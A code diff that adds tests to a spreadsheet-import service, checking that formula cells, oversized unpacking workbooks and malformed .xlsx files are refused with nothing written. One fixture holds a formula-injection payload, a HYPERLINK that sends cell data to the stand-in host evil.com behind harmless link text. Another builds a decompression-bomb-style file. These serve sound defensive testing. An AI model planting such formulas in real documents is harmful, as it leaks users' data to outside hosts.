@@ -210,6 +210,58 @@ describe('import of a previous year’s review from the same layout', () => {
   });
 });
 
+describe('import refuses what it must not read', () => {
+  test('a formula cell is refused by row and column, not imported as the result the file claims; nothing is written', async () => {
+    const before = await db.owner.selectFrom('self_reviews').select('id').execute();
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('Standards');
+    ws.addRow([...HEADER]);
+    ws.addRow(['1.1', 'Strategic Governance', 'x', 'Green', 'Fine', '']);
+    ws.addRow(['1.2', 'Strategic Governance', 'x', '', '', '']);
+    // the file says the result is "Green" and harmless text; the formulas say otherwise
+    ws.getCell('D3').value = { formula: '"Gr"&"een"', result: 'Green' };
+    ws.getCell('E3').value = { formula: 'HYPERLINK("https://evil.example/?"&A1,"See the policy")', result: 'See the policy' };
+    const file = Buffer.from(await wb.xlsx.writeBuffer());
+    await assert.rejects(service.importReview(lsms, xlsx(file), { year: 2019, frameworkVersionId: framework.id }), (e: AppError) => {
+      assert.equal(e.id, 'validation');
+      assert.deepEqual(
+        e.fields.map((f) => f.message),
+        [
+          'Row 3, Rating: the cell holds a formula; enter the value itself (Warden imports values only)',
+          'Row 3, Comments: the cell holds a formula; enter the value itself (Warden imports values only)',
+        ],
+      );
+      return true;
+    });
+    assert.deepEqual(await db.owner.selectFrom('self_reviews').select('id').execute(), before, 'nothing was written');
+  });
+
+  test('a small file that unpacks to more than 20 MB is refused before it is parsed; nothing is written', async () => {
+    const before = await db.owner.selectFrom('self_reviews').select('id').execute();
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('Standards');
+    ws.addRow([...HEADER]);
+    for (let i = 0; i < 2200; i++) ws.addRow([`1.${i}`, 'Strategic Governance', 'x', '', `${i} ${'comment '.repeat(1240)}`, '']);
+    const file = Buffer.from(await wb.xlsx.writeBuffer());
+    assert.ok(file.length < 2 * 1024 * 1024, `a ${file.length}-byte upload is within the size limit`);
+    await rejects(
+      service.importReview(lsms, xlsx(file), { year: 2018, frameworkVersionId: framework.id }),
+      'validation',
+      /The workbook is too large: unpacked, it must be smaller than 20 MB/,
+    );
+    assert.deepEqual(await db.owner.selectFrom('self_reviews').select('id').execute(), before, 'nothing was written');
+  });
+
+  test('a file named .xlsx that is not a readable workbook is a clear validation error', async () => {
+    const notZip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('[Content_Types].xml xl/ and then nothing a workbook needs')]);
+    await rejects(
+      service.importReview(lsms, xlsx(notZip), { year: 2017, frameworkVersionId: framework.id }),
+      'validation',
+      /could not be read as an Excel workbook/,
+    );
+  });
+});
+
 describe('warden self-review list|export|import', () => {
   async function warden(...argv: string[]) {
     let out = '';
